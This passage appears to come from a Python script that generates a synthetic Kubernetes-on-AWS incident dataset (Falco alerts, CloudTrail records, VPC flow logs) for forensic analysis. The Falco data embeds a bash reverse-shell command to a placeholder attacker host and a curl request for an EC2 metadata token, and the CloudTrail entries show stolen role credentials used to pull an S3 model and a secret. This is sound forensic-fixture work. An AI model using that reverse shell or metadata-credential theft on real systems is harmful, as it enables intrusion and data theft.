                "priority": prio, "rule": rule, "source": "syscall", "tags": tags, "time": t}
    na = {"container.image.repository": None, "container.image.tag": None, "container.name": None, "k8s.ns.name": None,
          "k8s.pod.name": None}
    rev = dict(na, **{"container.id": JUP_CTR[:12], "evt.time": epoch("10:04:31") * 10**9 + 903100422, "evt.type": "dup2",
                      "fd.name": "%s:40988->%s:4444" % (JUP_IP, ATTACKER), "proc.cmdline": "bash -c \"bash -i >& /dev/tcp/%s/4444 0>&1\"" % ATTACKER,
                      "proc.exepath": "/bin/bash", "proc.name": "bash", "proc.pname": "bash", "user.loginuid": -1, "user.name": "jovyan",
                      "user.uid": 1000, "evt.arg.oldfd": 3, "evt.arg.newfd": 0})
    imds = dict(na, **{"container.id": SYNC_CTR[:12], "evt.time": epoch("10:10:03") * 10**9 + 6300911, "evt.type": "connect",
                       "fd.name": "%s:51822->169.254.169.254:80" % NODE_IP, "proc.cmdline": "curl -s -X PUT http://169.254.169.254/latest/api/token -H X-aws-ec2-metadata-token-ttl-seconds: 21600",
                       "proc.exepath": "/usr/bin/curl", "proc.name": "curl", "proc.pname": "bash", "user.loginuid": -1, "user.name": "root", "user.uid": 0})
    return jl([
        alert("10:04:31", 903100422, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
              "Redirect stdout/stdin to network connection (gparent=bash ggparent=python3.11 gggparent=<NA> fd.sip=%s connection=%s "
              "lport=40988 rport=4444 fd_type=ipv4 fd_proto=tcp evt_type=dup2 user=jovyan user_uid=1000 user_loginuid=-1 process=bash "
              "proc_exepath=/bin/bash parent=bash command=%s terminal=0 container_id=%s container_name=<NA> "
              "container_image_repository=<NA> container_image_tag=<NA> k8s_pod_name=<NA> k8s_ns_name=<NA>)"
              % (ATTACKER, rev["fd.name"], rev["proc.cmdline"], JUP_CTR[:12]), rev,
              ["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"]),
        alert("10:10:03", 6300911, "Contact EC2 Instance Metadata Service From Container", "Notice",
              "Outbound connection to EC2 instance metadata service (connection=%s lport=51822 rport=80 fd_type=ipv4 fd_proto=tcp "
              "evt_type=connect user=root user_uid=0 user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl parent=bash "
              "command=%s terminal=34816 container_id=%s container_name=<NA> container_image_repository=<NA> "
              "container_image_tag=<NA> k8s_pod_name=<NA> k8s_ns_name=<NA>)" % (imds["fd.name"], imds["proc.cmdline"], SYNC_CTR[:12]), imds,
              ["maturity_sandbox", "network", "aws", "container", "mitre_discovery", "T1565"]),
    ])

# ------------------------------------------------------------------------------------- CloudTrail (S3 delivered)
def cloudtrail():
    node_identity = lambda: {"type": "AssumedRole", "principalId": "AROAUMLKUBEADMNODE01:" + INSTANCE, "arn": NODE_SESSION,
                             "accountId": ACCT, "accessKeyId": NODE_KEY,
                             "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAUMLKUBEADMNODE01", "arn": NODE_ROLE,
                                                                  "accountId": ACCT, "userName": NODE_ROLE_NAME},
                                                "attributes": {"creationDate": DAY + "T09:47:12Z", "mfaAuthenticated": "false"},
                                                "ec2RoleDelivery": "2.0"}}
    n = [0]
    def rec(t, source, name, ip, ua, req, resp, category="Management", ro=True, extra=None):
        n[0] += 1
        r = {"eventVersion": "1.10", "userIdentity": node_identity(), "eventTime": DAY + "T" + t + "Z", "eventSource": source,
             "eventName": name, "awsRegion": REGION, "sourceIPAddress": ip, "userAgent": ua, "requestParameters": req,
             "responseElements": resp, "requestID": "1e3a%04d-5c7e-4a9b-8d1f-%012d" % (n[0], n[0]),
             "eventID": "9b7d%04d-2f4a-4c6e-b8d0-%012d" % (n[0], n[0]), "readOnly": ro, "eventType": "AwsApiCall",
             "managementEvent": category == "Management", "recipientAccountId": ACCT, "eventCategory": category,
             "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                            "clientProvidedHostHeader": source.replace(".amazonaws.com", "") + "." + REGION + ".amazonaws.com"}}
        if extra: r.update(extra)
        return r
    cli = "aws-cli/2.18.0 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-48-generic md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython md/installer#exe md/distrib#kali.2024 md/prompt#off md/command#"
    crio_ecr = "ecr-credential-provider/v1.30.0 aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/ecr#1.32.0"
    records = [
        # the node's own use of its role (the kubelet's image credential provider), from its address
        rec("09:58:40", "ecr.amazonaws.com", "GetAuthorizationToken", NODE_IP, crio_ecr, {"registryIds": [ACCT]}, None),
        # the instance role's credentials, read from IMDS in the privileged pod, used from the attacker's host
        rec("10:12:31", "sts.amazonaws.com", "GetCallerIdentity", ATTACKER, cli + "sts.get-caller-identity", None, None),
        rec("10:12:58", "s3.amazonaws.com", "ListBuckets", ATTACKER, "[" + cli + "s3.ls]", {"Host": "s3.eu-central-1.amazonaws.com"}, None),
        rec("10:13:40", "s3.amazonaws.com", "GetObject", ATTACKER, "[" + cli + "s3.cp]",
            {"bucketName": "ml-models-prod", "Host": "ml-models-prod.s3.eu-central-1.amazonaws.com", "key": "fraud/v12/model.pt"}, None,
            category="Data", extra={"resources": [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::ml-models-prod/fraud/v12/model.pt"},
                                                  {"accountId": ACCT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::ml-models-prod"}],
                                    "additionalEventData": {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
                                                            "bytesTransferredIn": 0, "AuthenticationMethod": "AuthHeader",
                                                            "x-amz-id-2": "p3Xv7EXAMPLE=", "bytesTransferredOut": 301477120}}),
        rec("10:14:22", "secretsmanager.amazonaws.com", "GetSecretValue", ATTACKER, cli + "secretsmanager.get-secret-value",
            {"secretId": "prod/ml/feature-db"}, None,
            extra={"resources": [{"accountId": ACCT, "type": "AWS::SecretsManager::Secret",
                                  "ARN": "arn:aws:secretsmanager:%s:%s:secret:prod/ml/feature-db-Ab12Cd" % (REGION, ACCT)}]}),
    ]
    return json.dumps({"Records": records}, separators=(",", ":"))

# ----------------------------------------------------------------------------------- VPC Flow Logs (v2, S3, text)
FLOW_V2 = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status"

def flows():
    """The default format (version 2), delivered to S3 (gzip, header line). The node's ENI carries the pods' addresses
    (VPC CNI secondary addresses); traffic leaving the VPC is SNATed to the node's primary address."""
    r = [
        # the notebook's NodePort from the internet
        (ATTACKER, NODE_IP, 55120, 30888, 12, 2890, "10:02:14"),
        (ATTACKER, NODE_IP, 55131, 30888, 340, 88120, "10:03:58"),
        # the reverse shell (SNATed: the node's address)
        (NODE_IP, ATTACKER, 40988, 4444, 410, 61200, "10:04:31"),
        # the attacker's pod reaching the feature database with the notebook's secrets
        (SYNC_IP, DB_IP, 45110, 5432, 24, 4410, "10:15:30"),
        # the other tenant: its load balancer checks, and the cart service on the reused address, the same database
        ("10.40.1.30", WEB_IP, 41022, 80, 10, 2200, "10:05:00"),
        (CART_IP, DB_IP, 45870, 5432, 88, 19200, "11:00:02"),
    ]
    out = [FLOW_V2 + "\n"]
    for src, dst, sp, dp, pk, by, start in r:
        s = epoch(start)
        out.append("2 %s %s %s %s %d %d 6 %d %d %d %d ACCEPT OK\n" % (ACCT, ENI, src, dst, sp, dp, pk, by, s, s + 59))
    return "".join(out)

# ------------------------------------------------------------------------------------------------------------ main
def main():
    if os.path.exists(OUT):
        shutil.rmtree(OUT)
    write("strata-context.yaml", "\n".join([
        "# what the responder collected from the cluster and its nodes (the collector's context manifest); CloudTrail and",
        "# the VPC Flow Logs are pulled from the organization's log bucket by `strata pull-s3` (s3/ holds its objects)",
        "- path: control-plane/%s" % CP, "  host: %s" % CP, "  cluster: %s" % CLUSTER, "  cloud_provider: aws",
        '  cloud_account: "%s"' % ACCT, "  cloud_region: %s" % REGION,
        "- path: kubectl", "  cluster: %s" % CLUSTER, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT,
        "  cloud_region: %s" % REGION,
        "- path: nodes/%s" % NODE, "  host: %s" % NODE, "  cluster: %s" % CLUSTER, "  cloud_provider: aws",
        '  cloud_account: "%s"' % ACCT, "  cloud_region: %s" % REGION, "  cloud_instance: %s" % INSTANCE, ""]))
    write("control-plane/%s/var/log/kubernetes/audit/audit.log" % CP, jl(audit_log()))
    write("kubectl/pods-all-namespaces.json", json.dumps(pods_snapshot(), indent=4) + "\n")
    write("kubectl/events-all-namespaces.json", json.dumps(events(), indent=4) + "\n")
    write("kubectl/services-all-namespaces.json", json.dumps(services_snapshot(), indent=4) + "\n")
    node = "nodes/%s/" % NODE
    write(node + "journal/crio.json", crio_journal())
    for ns, name, uid, cname, ctr, body in ((NS, JUP, JUP_UID, "notebook", JUP_CTR, jupyter_log()),
                                            (SHOP, WEB, WEB_UID, "web", WEB_CTR, web_log()),
                                            (SHOP, CART, CART_UID, "cart", CART_CTR, cart_log())):
        rel = "var/log/pods/%s_%s_%s/%s/0.log" % (ns, name, uid, cname)
        write(node + rel, body)
        link = os.path.join(OUT, node, "var/log/containers/%s_%s_%s-%s.log" % (name, ns, cname, ctr))
        os.makedirs(os.path.dirname(link), exist_ok=True)
        os.symlink("/" + rel, link)  # the kubelet's link is absolute: it dangles outside the node
    write(node + "var/run/cilium/tetragon/tetragon.log", tetragon())
    write(node + "var/log/falco/events.json", falco())
    write("s3/AWSLogs/%s/CloudTrail/%s/2026/11/24/%s_CloudTrail_%s_20261124T1015Z_h7Kp2Wq9XzT4bV1m.json.gz" % (ACCT, REGION, ACCT, REGION),
          cloudtrail(), gz=True)
    write("s3/AWSLogs/%s/vpcflowlogs/%s/2026/11/24/%s_vpcflowlogs_%s_fl-0d2f4a6c8e0b13579_20261124T1100Z_7c9e1a3b.log.gz" % (ACCT, REGION, ACCT, REGION),
          flows(), gz=True)

if __name__ == "__main__":
    main()
